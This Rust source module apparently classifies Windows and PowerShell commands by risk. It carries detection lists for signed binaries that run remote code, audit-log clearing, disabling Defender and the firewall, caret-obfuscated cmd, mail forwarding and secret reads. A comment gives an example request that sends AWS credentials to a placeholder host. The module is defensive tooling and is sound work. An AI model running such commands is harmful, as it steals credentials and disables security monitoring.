//! Windows forms judged as a whole: help switches (`vssadmin delete shadows /?`,
//! `Remove-Item -?`), signed system binaries that run remote or local code (mshta, regsvr32,
//! rundll32, certutil, bitsadmin, msiexec), security tooling turned off (`auditpol /clear`,
//! `Set-NetFirewallProfile -Enabled False`, `Set-MpPreference -Disable…`), pure comparison
//! expressions inside script blocks (`Where-Object { $_.Status -eq 'Stopped' }`) and cmd's
//! own syntax (`d^e^l`, `@del`, `call del`); cmdlets the table does not know, by their verb
//! and arguments.

use super::super::super::shell::Sh;
use super::super::write_path;
use crate::Effect::{self, Admin, Destructive, Mutating, Read};

/// `TOOL [verb [object]] /?` or `-?`: the help switch is last and only plain words come
/// before it, so nothing else is named to act on.
pub(super) fn help_only(args: &[String]) -> bool {
    let Some((last, words)) = args.split_last() else {
        return false;
    };
    matches!(last.as_str(), "/?" | "-?")
        && words.len() <= 2
        && words
            .iter()
            .all(|w| !w.is_empty() && w.chars().all(|c| c.is_ascii_alphabetic()))
}

/// Signed Windows binaries that load and run code, often from a URL (LOLBins).
pub(super) const CODE_RUNNERS: &[&str] = &[
    "mshta",
    "regsvr32",
    "rundll32",
    "installutil",
    "regasm",
    "regsvcs",
    "msbuild",
    "cmstp",
    "odbcconf",
    "msxsl",
    "pcalua",
    "mavinject",
];

/// The tools this module judges: code runners, `certutil`, `msiexec`, `auditpol`,
/// `bitsadmin`. `None` for other tools.
pub(super) fn system_tool(name: &str, args: &[String]) -> Option<(Effect, &'static str)> {
    let lower: Vec<String> = args
        .iter()
        .map(|a| a.to_ascii_lowercase().replacen('-', "/", 1))
        .collect();
    let has = |w: &[&str]| {
        lower
            .iter()
            .any(|a| w.contains(&a.split(':').next().unwrap_or(a)))
    };
    let url = lower
        .iter()
        .any(|a| a.contains("http:") || a.contains("https:") || a.starts_with("\\\\"));
    Some(match name {
        n if CODE_RUNNERS.contains(&n) => (
            Admin,
            "runs code through a signed Windows binary (mshta, regsvr32, rundll32, …)",
        ),
        "certutil" if has(&["/urlcache", "/verifyctl"]) || url => {
            (Admin, "downloads a file with certutil")
        }
        "certutil" if has(&["/delstore", "/deleterow", "/delkey"]) => {
            (Destructive, "deletes certificates or keys")
        }
        "certutil" if has(&["/addstore", "/importpfx", "/setreg", "/installcert"]) => {
            (Admin, "changes certificate trust")
        }
        "certutil" if has(&["/decode", "/decodehex", "/encode", "/encodehex", "/split"]) => {
            (Mutating, "writes a decoded or encoded file")
        }
        "certutil"
            if has(&[
                "/dump",
                "/hashfile",
                "/store",
                "/verify",
                "/viewstore",
                "/?",
            ]) =>
        {
            (Read, "reads certificates or hashes a file")
        }
        // `robocopy SRC DST /MIR` (or `/PURGE`) deletes the destination's files the source
        // lacks; other copies write. `sdelete` overwrites and deletes files.
        "robocopy" if has(&["/mir", "/purge"]) => (
            Destructive,
            "deletes destination files the source lacks (`/MIR`, `/PURGE`)",
        ),
        "robocopy" => (Mutating, "copies files"),
        "sdelete" | "sdelete64" => (Destructive, "securely deletes files"),
        // Event logs: querying reads; clearing or reconfiguring a log removes the audit trail.
        // The command's name as written (`clear-log`, before the dash is read as a slash),
        // after any option (`/r:dc01 cl Security`).
        "wevtutil" => match args
            .iter()
            .find(|a| !a.starts_with(['/', '-']))
            .map(|a| a.to_ascii_lowercase())
            .as_deref()
            .unwrap_or("")
        {
            "qe" | "query-events" | "el" | "enum-logs" | "gl" | "get-log" | "gli"
            | "get-loginfo" | "ep" | "enum-publishers" | "gp" | "get-publisher"
                if !has(&["/bu", "/backup"]) =>
            {
                (Read, "reads event logs")
            }
            "cl" | "clear-log" | "sl" | "set-log" | "um" | "uninstall-manifest" | "im"
            | "install-manifest" => (Admin, "clears or reconfigures an event log"),
            _ => (Mutating, "exports or archives an event log"),
        },
        "msiexec" if has(&["/x", "/uninstall"]) => (Destructive, "uninstalls software"),
        "msiexec" => (Admin, "installs software (msiexec)"),
        "auditpol"
            if has(&["/get", "/list", "/?"])
                && !has(&["/set", "/clear", "/remove", "/restore"]) =>
        {
            (Read, "reads the audit policy")
        }
        "auditpol" if has(&["/backup"]) && !has(&["/set", "/clear", "/remove", "/restore"]) => {
            (Mutating, "writes the audit policy to a file")
        }
        "auditpol" => (Admin, "changes or clears the audit policy"),
        "bitsadmin"
            if has(&[
                "/transfer",
                "/addfile",
                "/create",
                "/setnotifycmdline",
                "/resume",
                "/complete",
            ]) =>
        {
            (
                Admin,
                "downloads files or runs a command when a transfer ends (bitsadmin)",
            )
        }
        _ => return None,
    })
}

/// An unknown cmdlet whose noun names access or security tooling: changing it is admin
/// (`Add-ADGroupMember`, `Set-NetFirewallProfile`, `Set-MpPreference`, `Set-Acl`).
pub(super) fn security_noun(verb: &str, noun: &str) -> Option<Effect> {
    const READ_VERBS: &[&str] = &[
        "get",
        "test",
        "find",
        "show",
        "select",
        "measure",
        "resolve",
        "compare",
        "read",
        "search",
        "format",
        "out",
        "write",
        "convertto",
        "convertfrom",
        "export",
        "trace",
        "watch",
        "wait",
        "debug",
        "confirm",
        "assert",
    ];
    const NOUNS: &[&str] = &[
        "group",
        "member",
        "user",
        "acl",
        "permission",
        "password",
        "credential",
        "privilege",
        "role",
        "firewall",
        "mppreference",
        "mpthreat",
        "defender",
        "auditpolicy",
        "audit",
        "executionpolicy",
        "policy",
        "account",
        "accesscontrol",
        "certificate",
        "trust",
        "delegation",
        "serviceprincipal",
        "bitlocker",
        "securitydescriptor",
    ];
    if READ_VERBS.contains(&verb) {
        return None;
    }
    let noun = noun.to_ascii_lowercase();
    NOUNS.iter().any(|n| noun.contains(n)).then_some(Admin)
}

/// A statement of a PowerShell script block that only compares values
/// (`$_.Status -eq 'Stopped' -and $_.StartType -eq 'Automatic'`): variables and their
/// properties, comparison and logical operators, literals. `text` is the whole script: a
/// method call (`$_.Kill()`, `[IO.File]::Delete(x)`) or a subexpression anywhere in it makes
/// this false, because the splitter has cut the call's parentheses away.
pub(super) fn pure_comparison(words: &[String], text: &str) -> bool {
    const OPERATORS: &[&str] = &[
        "-eq",
        "-ne",
        "-gt",
        "-ge",
        "-lt",
        "-le",
        "-like",
        "-notlike",
        "-match",
        "-notmatch",
        "-contains",
        "-notcontains",
        "-in",
        "-notin",
        "-and",
        "-or",
        "-not",
        "-xor",
        "-is",
        "-isnot",
        "-ceq",
        "-cne",
        "-clike",
        "-cmatch",
        "-ieq",
        "-ilike",
        "-imatch",
        "!",
    ];
    let calls = text.char_indices().any(|(i, c)| {
        c == '('
            && text.get(..i).is_some_and(|b| {
                b.ends_with(|p: char| p.is_alphanumeric() || matches!(p, '_' | ']' | '$' | '.'))
            })
    });
    if calls || text.contains("$(") {
        return false;
    }
    let variable = |w: &str| {
        w.strip_prefix('$').is_some_and(|v| {
            !v.is_empty()
                && v.chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'))
        })
    };
    words.first().is_some_and(|w| variable(w))
        && words.iter().all(|w| {
            let l = w.to_ascii_lowercase();
            variable(w)
                || OPERATORS.contains(&l.as_str())
                || (!w.is_empty()
                    && w.chars().all(|c| {
                        c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '*' | ' ' | ':' | '\\')
                    }))
        })
        && !words.iter().any(|w| w.contains('='))
}

/// cmd's own syntax before a statement is read: `^` escapes outside double quotes
/// (`d^e^l` is `del`).
pub(super) fn strip_carets(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut quoted = false;
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => {
                quoted = !quoted;
                out.push(c);
            }
            // `^` before a line break joins the lines; the next line's first character is
            // then plain.
            '^' if !quoted => match chars.next() {
                Some('\n') => out.extend(chars.next()),
                next => out.extend(next),
            },
            _ => out.push(c),
        }
    }
    out
}

/// `ForEach-Object NAME [ARGS]` (also `%`, `-MemberName NAME`): NAME is a property read or a
/// method called on every object piped in (`Get-ChildItem | % Delete`, `Get-Process | %
/// Kill`). Read only for the listed properties and methods that only return a value; a
/// method that deletes, stops or moves is destructive; any other is a call not seen.
pub(super) fn foreach_member(args: &[String]) -> Option<(Effect, String)> {
    // Switches of `ForEach-Object` and the common parameters; every other parameter
    // (`-ArgumentList`, `-InputObject`, `-OutVariable`, …, by any prefix) takes a value.
    const SWITCHES: &[&str] = &[
        "whatif",
        "confirm",
        "verbose",
        "debug",
        "asjob",
        "usenewrunspace",
        "vb",
        "db",
    ];
    let mut it = args.iter();
    let mut member = None;
    while let Some(a) = it.next() {
        let lower = a.to_ascii_lowercase();
        if let Some(flag) = lower.strip_prefix('-').filter(|f| !f.is_empty()) {
            let (name, attached) = match flag.split_once(':') {
                Some((n, v)) => (n, Some(v)),
                None => (flag, None),
            };
            if "membername".starts_with(name) {
                member = match attached {
                    Some(_) => a.split_once(':').map(|(_, v)| v.to_string()),
                    None => it.next().cloned(),
                };
                break;
            }
            if attached.is_none() && !SWITCHES.iter().any(|s| s.starts_with(name)) {
                it.next();
            }
            continue;
        }
        if a.starts_with('{') {
            return None;
        }
        member = Some(a.clone());
        break;
    }
    let member = member?;
    if member.starts_with(['$', '(', '@', '&']) {
        return Some((
            Mutating,
            format!("calls a member chosen at run time (`{member}`) on each object"),
        ));
    }
    let name = member.trim_matches(['\'', '"']).to_ascii_lowercase();
    const READS: &[&str] = &[
        "name",
        "fullname",
        "basename",
        "extension",
        "length",
        "lastwritetime",
        "lastwritetimeutc",
        "lastaccesstime",
        "lastaccesstimeutc",
        "creationtime",
        "creationtimeutc",
        "mode",
        "attributes",
        "directoryname",
        "directory",
        "parent",
        "root",
        "exists",
        "isreadonly",
        "linktype",
        "linktarget",
        "target",
        "id",
        "processname",
        "path",
        "status",
        "displayname",
        "servicename",
        "starttype",
        "canstop",
        "dependentservices",
        "servicesdependedon",
        "machinename",
        "count",
        "value",
        "key",
        "keys",
        "values",
        "handle",
        "handles",
        "cpu",
        "ws",
        "pm",
        "npm",
        "vm",
        "workingset",
        "workingset64",
        "privatememorysize64",
        "virtualmemorysize64",
        "starttime",
        "mainwindowtitle",
        "commandline",
        "sessionid",
        "responding",
        "company",
        "description",
        "product",
        "fileversion",
        "productversion",
        "version",
        "size",
        "ipaddress",
        "interfacealias",
        "state",
        "source",
        "message",
        "timecreated",
        "level",
        "eventid",
        "toupper",
        "tolower",
        "tostring",
        "trim",
        "trimstart",
        "trimend",
        "split",
        "substring",
        "startswith",
        "endswith",
        "contains",
        "indexof",
        "lastindexof",
        "padleft",
        "padright",
        "gettype",
        "gethashcode",
        "pspath",
        "psparentpath",
        "pschildname",
        "psiscontainer",
        "psdrive",
        "versioninfo",
    ];
    // Exact names only: `Remove`, `Replace`, `Clear`, `Format` are also pure string or
    // collection methods, so they stay mutating, not read.
    const DESTROYS: &[&str] = &[
        "delete",
        "kill",
        "stop",
        "stopservice",
        "moveto",
        "terminate",
        "shutdown",
        "reboot",
        "uninstall",
        "encrypt",
        "decrypt",
        "setaccesscontrol",
        "pause",
        "pauseservice",
        "disable",
        "drop",
        "truncate",
        "deletesubkey",
        "deletesubkeytree",
        "deletevalue",
    ];
    if READS.contains(&name.as_str()) {
        Some((Read, format!("reads `{name}` of each object")))
    } else if DESTROYS.contains(&name.as_str()) {
        Some((
            Destructive,
            format!("calls `{name}` on each object piped in (deletes, stops or moves them)"),
        ))
    } else {
        Some((
            Mutating,
            format!("calls `{name}` on each object piped in (a method not proven to read)"),
        ))
    }
}

/// A secret file read inside a `$( )` of a request's arguments (`Invoke-RestMethod
/// "https://x/?k=$(Get-Content $HOME\.aws\credentials -Raw)"`): the request carries it.
pub(super) fn secret_in_subexpression(args: &[String]) -> Option<String> {
    args.iter()
        .filter_map(|a| a.split_once("$(").map(|(_, inner)| inner))
        .flat_map(|inner| inner.split([' ', ')', '"', '\'', ',', ';', '(']))
        .find_map(|w| {
            let unix = w.replace('\\', "/");
            let lower = unix.to_ascii_lowercase();
            let home = [
                "$home",
                "$env:userprofile",
                "$env:home",
                "${env:userprofile}",
                "~",
            ]
            .iter()
            .find_map(|h| lower.strip_prefix(h).map(|_| h.len()));
            let path = match home {
                Some(n) => format!("~{}", unix.get(n..).unwrap_or("")),
                None => unix,
            };
            super::super::super::args::secret_path(&path).then(|| w.to_string())
        })
}

/// The quoted strings of a text (`'…'` or `"…"`, no escapes), in order.
pub(super) fn quoted(text: &str) -> impl Iterator<Item = &str> {
    let mut rest = text;
    std::iter::from_fn(move || {
        let start = rest.find(['\'', '"'])?;
        let q = rest.get(start..start + 1)?;
        let body = rest.get(start + 1..)?;
        let end = body.find(q)?;
        let inside = body.get(..end)?;
        rest = body.get(end + 1..).unwrap_or("");
        Some(inside)
    })
}

/// The secret a PowerShell command writes to its pipeline: a secret file's content
/// (`Get-Content .env -Raw`, `gc`, `cat`, `type`) or the environment (`Get-ChildItem env:`,
/// `gci env:\`, `Get-Item env:GITHUB_TOKEN`).
pub(super) fn pipeline_secret(words: &[String]) -> Option<String> {
    let first = words.first()?.to_ascii_lowercase();
    let args = words.get(1..).unwrap_or_default();
    let bare = |a: &String| a.trim_matches(['\'', '"']).to_string();
    match first.as_str() {
        "get-content" | "gc" | "cat" | "type" => args
            .iter()
            .map(bare)
            .find(|a| super::super::super::args::secret_path(a)),
        "get-childitem" | "gci" | "dir" | "ls" | "get-item" | "gi" => {
            args.iter().map(bare).find_map(|a| {
                let lower = a.to_ascii_lowercase();
                let rest = lower.strip_prefix("env:")?;
                let name = rest.trim_start_matches(['\\', '/']);
                if name.is_empty() || name.contains('*') {
                    Some("environment".to_string())
                } else {
                    let raw = a.get(a.len() - name.len()..).unwrap_or(name);
                    super::super::super::args::sent_secret_variable(raw).then(|| raw.to_string())
                }
            })
        }
        _ => None,
    }
}

/// A word naming a Windows network share (`Get-Content \\host\x`, `dir \\10.0.0.5\c$`):
/// Windows signs in to that host with the user's credentials, whatever the command does.
pub(super) fn unc_share(sh: &mut super::super::super::shell::Sh, words: &[String], cmd: &str) {
    if let Some(host) = words
        .iter()
        .find_map(|w| super::super::super::args::unc_host(w))
    {
        sh.add(
            Mutating,
            format!("{cmd} reaches the network share host `{host}` (Windows signs in to it with the user's credentials)"),
        );
    }
}

/// A cmdlet the table does not know, judged by its verb; never read. What its arguments
/// say raises it: `Everyone` given access, mail forwarded (`New-InboxRule -ForwardTo`), the
/// file an `Export-`/`Out-`/`Tee-` cmdlet writes.
pub(super) fn unknown_cmdlet(sh: &mut Sh, name: &str, args: &[String], cmd: &str) {
    let (verb, noun) = name.split_once('-').unwrap_or((name, ""));
    let verb = verb.to_ascii_lowercase();
    // Aliases of removal cmdlets not in the table (`rwmi` is `Remove-WmiObject`).
    if matches!(verb.as_str(), "rwmi" | "rcim") {
        sh.add(Destructive, format!("{cmd} removes WMI or CIM instances"));
        return;
    }
    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    if lower.iter().any(|a| {
        a.split([',', ':', ' ', '\'', '"'])
            .any(|p| matches!(p, "everyone" | "s-1-1-0" | "*s-1-1-0"))
            // Exchange's forwarding parameters, by any prefix PowerShell accepts (`-ForwardT`).
            || a.len() >= 6
                && [
                    "-forwardto",
                    "-forwardasattachmentto",
                    "-forwardingsmtpaddress",
                    "-forwardingaddress",
                    "-redirectto",
                ]
                .iter()
                .any(|p| p.starts_with(a.as_str()))
    }) {
        sh.add(
            Admin,
            format!("{cmd} gives everyone access or forwards mail elsewhere"),
        );
        return;
    }
    if matches!(verb.as_str(), "export" | "out" | "tee") {
        let mut it = args.iter();
        let mut target = None;
        while let Some(a) = it.next() {
            if a.starts_with('-') {
                let flag = a.to_ascii_lowercase();
                let value = it.next();
                if matches!(
                    flag.as_str(),
                    "-path" | "-filepath" | "-literalpath" | "-outfile"
                ) {
                    target = value;
                }
            } else if target.is_none() {
                target = Some(a);
            }
        }
        if let Some(t) = target {
            write_path(sh, t, cmd);
        }
    }
    if let Some(e) = security_noun(&verb, noun) {
        sh.add(
            e,
            format!("{cmd} runs `{name}`, which changes access or security settings"),
        );
        return;
    }
    let e = match verb.as_str() {
        "remove" | "clear" | "stop" | "uninstall" | "disable" | "reset" | "format" | "dismount"
        | "unregister" | "suspend" | "restart" | "erase" => Destructive,
        "grant" | "revoke" | "block" | "unblock" => Admin,
        _ => Mutating,
    };
    sh.add(
        e,
        format!("{cmd} runs `{name}`, a command this catalogue does not know"),
    );
}
